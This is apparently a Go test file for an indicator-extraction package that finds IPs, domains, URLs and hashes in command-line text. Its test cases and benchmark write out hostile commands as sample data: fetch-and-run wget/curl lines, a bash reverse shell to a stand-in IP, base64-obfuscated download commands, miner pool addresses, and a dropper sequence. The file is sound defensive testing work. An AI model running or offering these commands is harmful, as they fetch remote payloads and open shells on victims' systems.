package indicator

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestFind(t *testing.T) {
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	for _, tc := range []struct {
		text string
		want []string
	}{
		{"", nil},
		{"uname -a; cat /etc/passwd; ls x.sh a.out lib.so.6", nil},
		{"wget http://198.51.100.7/bins.sh; sh bins.sh", []string{"ip 198.51.100.7", "url http://198.51.100.7/bins.sh"}},
		{"curl -sL 'https://user:pw@Evil.Example.com:8443/a?b=c&d=e'|sh", []string{"domain evil.example.com", "url https://user:pw@Evil.Example.com:8443/a?b=c&d=e"}},
		{"wget 198.51.100.7/x.arm7", []string{"ip 198.51.100.7", "url http://198.51.100.7/x.arm7"}},
		{"tftp -g -r m.sh 203.0.113.9", []string{"ip 203.0.113.9"}},
		{"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", []string{"ip 203.0.113.9"}},
		{"ping 127.0.0.1 0.0.0.0 255.255.255.255", nil},
		{"route add 10.0.0.0/8", []string{"ip 10.0.0.0"}},
		{"curl [2001:db8::1]:80/x http://[2001:db8::2]:80/y", []string{"ip 2001:db8::1", "url http://[2001:db8::1]:80/x", "ip 2001:db8::2", "url http://[2001:db8::2]:80/y"}},
		{"pool.minexmr.com:4444 -u 44AFFq5k", []string{"domain pool.minexmr.com"}},
		{"stratum+tcp://pool.example.org:3333", []string{"domain pool.example.org", "url stratum+tcp://pool.example.org:3333"}},
		{"echo " + b64("wget http://203.0.113.5/deep.sh -O- | sh\n") + " | base64 -d | sh", []string{"ip 203.0.113.5", "url http://203.0.113.5/deep.sh"}},
		{"echo " + b64("echo "+b64("curl http://203.0.113.6/deeper")+"|base64 -d|sh"), []string{"ip 203.0.113.6", "url http://203.0.113.6/deeper"}},
		{"sha256sum -c 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", []string{"hash 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}},
		{"http://a.example.net/xhttp://b.example.net/y", []string{"domain a.example.net", "url http://a.example.net/x", "domain b.example.net", "url http://b.example.net/y"}},
		{"javascript://x.example.com foo://bar gopherx://a.example.com", nil},
		{"hxxp://198.51.100.7/x", nil},
		{"\xff\xfehttp://203.0.113.8/\x00z", []string{"ip 203.0.113.8", "url http://203.0.113.8/"}},
		{"http://evil.com. http://evil.com, evil.com", []string{"domain evil.com", "url http://evil.com"}},
	} {
		var got []string
		for _, o := range Find("x", tc.text) {
			if o.Name != "x" {
				t.Errorf("name %q", o.Name)
			}
			got = append(got, o.Type+" "+o.Value)
		}
		if d := cmp.Diff(tc.want, got); d != "" {
			t.Errorf("%q:\n%s", tc.text, d)
		}
	}
}

func TestBounds(t *testing.T) {
	var b strings.Builder
	for i := range 5000 {
		b.WriteString("http://203.0.113." + string(rune('0'+i%10)) + "/" + strings.Repeat("a", i%3000) + " ")
	}
	got := Find("x", b.String())
	if len(got) != MaxFound {
		t.Errorf("%d found", len(got))
	}
	if more := Add(got, got, 200); len(more) != len(got) {
		t.Errorf("%d after adding the same", len(more))
	}
}

func FuzzFind(f *testing.F) {
	for _, s := range []string{"wget http://1.2.3.4/x", "://", "http://[", strings.Repeat("://", 50), "echo d2dldCBodHRwOi8vMS4yLjMuNC94|base64 -d", "a.b:c@[::1]/=="} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Find("x", s)
		if len(got) > MaxFound {
			t.Errorf("%d found", len(got))
		}
		seen := map[string]bool{}
		for _, o := range got {
			if o.Value == "" || len(o.Value) > maxValue || seen[o.Type+o.Value] || strings.ContainsAny(o.Value, "\x00\n\x1b ") {
				t.Errorf("found %q", o.Value)
			}
			seen[o.Type+o.Value] = true
		}
	})
}

func BenchmarkFind(b *testing.B) {
	line := "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh"
	b.SetBytes(int64(len(line)))
	for b.Loop() {
		Find("process.cmd_line", line)
	}
}
